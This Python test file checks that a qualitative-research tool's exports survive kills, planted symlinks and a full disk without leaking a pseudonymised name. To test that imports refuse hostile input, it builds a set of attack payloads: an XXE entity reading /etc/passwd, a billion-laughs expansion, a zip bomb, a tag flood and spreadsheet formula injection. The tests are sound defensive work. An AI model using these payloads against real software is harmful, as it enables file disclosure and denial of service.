"""Exports under kills, planted links, a full disk and hostile files: nothing leaks, nothing earlier is lost."""

from __future__ import annotations

import csv
import os
import random
import resource
import shutil
import signal
import subprocess
import sys
import textwrap
import time
import zipfile
from pathlib import Path

import docx
import openpyxl
import pytest

from tests.reliability.conftest import (
    assert_one_line_error,
    cli_env,
    connected,
    run_qualcode,
    start_qualcode,
)

ORIGINAL = "Hilde Berg"
HYPERLINK = '=HYPERLINK("http://example.invalid/"&A1)'
INTERVIEW = (
    "I: Hvordan gikk det?\n"
    f"D1: Jeg snakket med {ORIGINAL}. {HYPERLINK} sto det i lappen.\n"
    "I: Og så?\n"
    "D1: -2+3 var svaret hun fikk.\n"
)
TEMPORARY_SUFFIX = ".qualcode.tmp"


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project with a known name in its key, two codings and a good report; built once, copied per test."""
    base = tmp_path_factory.mktemp("template")
    (base / "home").mkdir()
    env = cli_env(base / "home", base / "keys" / "studie.qckey")
    root = base / "studie"
    source = base / "intervju.txt"
    source.write_text(INTERVIEW, encoding="utf-8")
    steps = [
        ["init", str(root)],
        ["identifiers", "add", ORIGINAL, "--kind", "person"],
        ["import", str(source)],
        ["coding", "add", "intervju", "empowerment", "--match", HYPERLINK],
        ["coding", "add", "intervju", "brukermedvirkning", "--match", "-2+3", "--memo", "@SUM(1)"],
        ["export", "report", "--output", str(root / "exports" / "rapport.docx")],
    ]
    for args in steps:
        result = run_qualcode(args, env, cwd=root if args[0] != "init" else base)
        assert result.returncode == 0, (args, result.stderr)
    assert ORIGINAL not in text_of(root / "exports" / "rapport.docx")
    return base


@pytest.fixture
def project(template: Path, tmp_path: Path) -> tuple[Path, dict[str, str]]:
    """A fresh copy of the template project and its key, with the environment to use them."""
    shutil.copytree(template / "studie", tmp_path / "studie")
    shutil.copytree(template / "keys", tmp_path / "keys")
    (tmp_path / "home").mkdir()
    return tmp_path / "studie", cli_env(tmp_path / "home", tmp_path / "keys" / "studie.qckey")


def text_of(path: Path) -> str:
    """All the text in a file: every part of a zip package (docx, xlsx), else the file as UTF-8."""
    data = path.read_bytes()
    if data.startswith(b"PK"):
        with zipfile.ZipFile(path) as archive:
            return "\n".join(archive.read(name).decode("utf-8", errors="replace") for name in archive.namelist())
    return data.decode("utf-8", errors="replace")


def plant_original(root: Path) -> None:
    """Put the original name into the stored quotes behind the pseudonymiser's back, as a bug might."""
    with connected(root / ".qualcode" / "project.db") as connection:
        connection.execute("UPDATE codings SET excerpt = excerpt || ?", (f" {ORIGINAL}",))


def folder_state(folder: Path) -> dict[str, tuple[int, int, int]]:
    states = {}
    for entry in os.scandir(folder):
        try:
            with_link = entry.stat(follow_symlinks=False)
        except FileNotFoundError:  # renamed away while we looked
            continue
        states[entry.name] = (with_link.st_ino, with_link.st_size, with_link.st_mtime_ns)
    return states


def published(folder: Path) -> list[Path]:
    return sorted(path for path in folder.iterdir() if not path.name.endswith(TEMPORARY_SUFFIX))


def temporaries(folder: Path) -> list[Path]:
    return sorted(path for path in folder.iterdir() if path.name.endswith(TEMPORARY_SUFFIX))


@pytest.mark.parametrize("signal_number", [signal.SIGKILL, signal.SIGTERM, signal.SIGHUP], ids=["KILL", "TERM", "HUP"])
def test_a_kill_during_a_refused_export_never_leaves_the_original_name(
    project: tuple[Path, dict[str, str]], signal_number: int,
) -> None:
    """Killed the moment the report changes (or after a seeded delay), a refused export leaves the earlier file."""
    root, env = project
    exports = root / "exports"
    report = exports / "rapport.docx"
    earlier = report.read_bytes()
    plant_original(root)
    delay = random.Random(signal_number).uniform(0.5, 3.0)
    for kill_at_first_change in (True, False):
        before = folder_state(exports)["rapport.docx"]
        process = start_qualcode(["export", "report", "--force", "--output", str(report)], env, cwd=root)
        deadline = time.monotonic() + (60 if kill_at_first_change else delay)
        while process.poll() is None:
            if (kill_at_first_change and folder_state(exports).get("rapport.docx") != before) or time.monotonic() > deadline:
                process.send_signal(signal_number)
                break
        process.communicate(timeout=60)
        leaking = [path.name for path in published(exports) if ORIGINAL in text_of(path)]
        assert leaking == [], kill_at_first_change
        assert report.read_bytes() == earlier
        if signal_number != signal.SIGKILL:
            assert temporaries(exports) == []


PUBLISH_UNDER_SIGNAL = textwrap.dedent("""
    import os, signal, sys
    from pathlib import Path
    from qualcode.exporters import publish as module

    target, signal_number = Path(sys.argv[1]), int(sys.argv[2])
    # As a terminal starts it: a test run under nohup would hand down an ignored SIGHUP, which
    # publishing rightly leaves ignored.
    signal.signal(signal.SIGHUP, signal.SIG_DFL)
    real_fsync = os.fsync

    def fsync_then_die(descriptor):
        real_fsync(descriptor)
        os.kill(os.getpid(), signal_number)  # the new bytes are in the temporary file, not yet published

    module.os.fsync = fsync_then_die
    module.publish(target, b"new export")
    print("published")
""")


@pytest.mark.parametrize("signal_number", [signal.SIGKILL, signal.SIGTERM, signal.SIGHUP], ids=["KILL", "TERM", "HUP"])
def test_a_signal_between_writing_and_publishing_leaves_the_previous_file(tmp_path: Path, signal_number: int) -> None:
    """SIGTERM and SIGHUP remove the temporary file and end the process by the signal; after SIGKILL the next export does."""
    target = tmp_path / "exports" / "rapport.docx"
    target.parent.mkdir()
    target.write_bytes(b"previous export")
    result = subprocess.run(
        [sys.executable, "-c", PUBLISH_UNDER_SIGNAL, str(target), str(int(signal_number))],
        capture_output=True, text=True, timeout=60,
    )
    assert result.returncode == -signal_number, result.stderr
    assert "published" not in result.stdout and "Traceback" not in result.stderr
    assert target.read_bytes() == b"previous export"
    left = temporaries(target.parent)
    if signal_number != signal.SIGKILL:
        assert left == []
        return
    assert len(left) == 1 and left[0].name.startswith(".rapport.docx.")  # named as a temporary, never an export
    from qualcode.exporters.publish import publish

    assert publish(target, b"next export") == [left[0].name]
    assert target.read_bytes() == b"next export" and temporaries(target.parent) == []


def test_force_on_a_refused_export_keeps_the_earlier_file(project: tuple[Path, dict[str, str]]) -> None:
    root, env = project
    report = root / "exports" / "rapport.docx"
    earlier = report.read_bytes()
    plant_original(root)
    result = run_qualcode(["export", "report", "--force", "--output", str(report)], env, cwd=root)
    assert_one_line_error(result)
    assert "refused to write rapport.docx" in result.stderr
    assert report.read_bytes() == earlier
    assert [path.name for path in (root / "exports").iterdir()] == ["rapport.docx"]


def test_planted_links_are_never_followed(project: tuple[Path, dict[str, str]], tmp_path: Path) -> None:
    """A link at the old predictable temporary name is ignored; a target that is a link is refused, even with --force."""
    root, env = project
    exports = root / "exports"
    outside = tmp_path / "outside.txt"
    outside.write_text("precious, outside the project", encoding="utf-8")
    (exports / "ny.docx.tmp.docx").symlink_to(outside)
    (exports / "lenke.docx").symlink_to(outside)

    result = run_qualcode(["export", "report", "--output", str(exports / "ny.docx")], env, cwd=root)
    assert result.returncode == 0, result.stderr
    assert outside.read_text(encoding="utf-8") == "precious, outside the project"
    assert docx.Document(str(exports / "ny.docx")).paragraphs  # a real report, at the name asked for
    assert (exports / "ny.docx.tmp.docx").is_symlink()

    refused = run_qualcode(["export", "report", "--force", "--output", str(exports / "lenke.docx")], env, cwd=root)
    assert_one_line_error(refused)
    assert "symbolic link" in refused.stderr
    assert (exports / "lenke.docx").is_symlink()
    assert outside.read_text(encoding="utf-8") == "precious, outside the project"
    assert temporaries(exports) == []


@pytest.mark.parametrize("table_format", ["xlsx", "csv"])
def test_quote_tables_carry_no_live_formulas(project: tuple[Path, dict[str, str]], table_format: str) -> None:
    root, env = project
    target = root / "exports" / f"sitater.{table_format}"
    result = run_qualcode(["export", "quotes", "--format", table_format, "--output", str(target)], env, cwd=root)
    assert result.returncode == 0, result.stderr
    if table_format == "xlsx":
        sheet = openpyxl.load_workbook(target).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
        texts = {cell.value for cell in cells}
        assert {HYPERLINK, "-2+3", "@SUM(1)"} <= texts  # verbatim, as text
    else:
        with target.open(encoding="utf-8-sig", newline="") as handle:
            rows = list(csv.DictReader(handle))
        cells = [value for row in rows for value in row.values()]
        assert f"'{HYPERLINK}" in cells and "'-2+3" in cells and "'@SUM(1)" in cells
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in cells)


def test_a_full_disk_is_one_line_and_changes_nothing(project: tuple[Path, dict[str, str]]) -> None:
    root, env = project
    exports = root / "exports"
    report = exports / "rapport.docx"
    earlier = report.read_bytes()
    limit = len(earlier) - 1024  # room for SQLite's 32 kB shared-memory file, not for the report
    assert limit > 34_000

    def small_disk() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    result = run_qualcode(["export", "report", "--force", "--output", str(report)], env, cwd=root, preexec=small_disk)
    assert_one_line_error(result)
    assert "disk is full" in result.stderr and "nothing was changed" in result.stderr
    assert report.read_bytes() == earlier
    assert [path.name for path in exports.iterdir()] == ["rapport.docx"]


# Hostile files for `review import` and `leakcheck`.
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="word/document.xml"/></Relationships>'
)
XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LAUGHS = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">' + "".join(
    f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)
) + "]>"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _document(prolog: str, text: str) -> str:
    return f"{prolog}<w:document {W}><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"


def hostile_docx(path: Path, kind: str) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", RELS)
        if kind == "xxe":
            archive.writestr("word/document.xml", _document(XXE, "&e;"))
        elif kind == "laughs":
            archive.writestr("word/document.xml", _document(LAUGHS, "&l9;"))
        elif kind == "junk":
            archive.writestr("word/document.xml", "<w:document><w:body>&&& not xml <<")
        elif kind == "tags":  # 13 MB of empty runs, 2.1 million tags, in 20 kB
            archive.writestr("word/document.xml", _document("", "").replace("<w:r>", "<w:r/>" * 2_100_000 + "<w:r>"))
        else:  # a zip bomb: one part that unpacks to 210 MB of zeros (about 200 kB packed)
            with archive.open("word/document.xml", "w", force_zip64=True) as member:
                block = b"\0" * (1024 * 1024)
                for _ in range(210):
                    member.write(block)
    return path


def hostile_xlsx(path: Path) -> Path:
    workbook = openpyxl.Workbook()
    workbook.active.append(["kode", "sitat"])
    workbook.save(path)
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    sheet = members["xl/worksheets/sheet1.xml"].decode()
    members["xl/worksheets/sheet1.xml"] = (XXE + sheet[sheet.index("<worksheet"):]).replace("kode", "&e;").encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


def hostile_qdpx(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("project.qde", f"{LAUGHS}<Project name='&l9;'><Sources/></Project>")
    return path


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The hostile files, made once: the zip bomb takes a moment to pack."""
    folder = tmp_path_factory.mktemp("hostile")
    files = {f"{kind}.docx": hostile_docx(folder / f"kommentert-{kind}.docx", kind) for kind in ("xxe", "laughs", "junk", "zipbomb", "tags")}
    files["xxe.xlsx"] = hostile_xlsx(folder / "sitater-xxe.xlsx")
    files["laughs.qdpx"] = hostile_qdpx(folder / "prosjekt-latter.qdpx")
    return files


@pytest.mark.parametrize("kind", ["xxe", "laughs", "junk", "zipbomb", "tags"])
def test_review_import_refuses_hostile_docx_in_one_line(
    project: tuple[Path, dict[str, str]], hostile: dict[str, Path], kind: str,
) -> None:
    root, env = project
    path = hostile[f"{kind}.docx"]
    result = run_qualcode(["review", "import", str(path)], env, cwd=root, timeout=60)
    assert_one_line_error(result)
    assert path.name in result.stderr
    assert "root:" not in result.stdout + result.stderr


@pytest.mark.parametrize("name", ["xxe.docx", "zipbomb.docx", "tags.docx", "xxe.xlsx", "laughs.qdpx"])
def test_leakcheck_refuses_hostile_files_in_one_line(
    project: tuple[Path, dict[str, str]], hostile: dict[str, Path], name: str,
) -> None:
    root, env = project
    path = hostile[name]
    result = run_qualcode(["leakcheck", str(path)], env, cwd=root, timeout=60)
    assert_one_line_error(result)
    assert path.name in result.stderr
    assert "root:" not in result.stdout + result.stderr
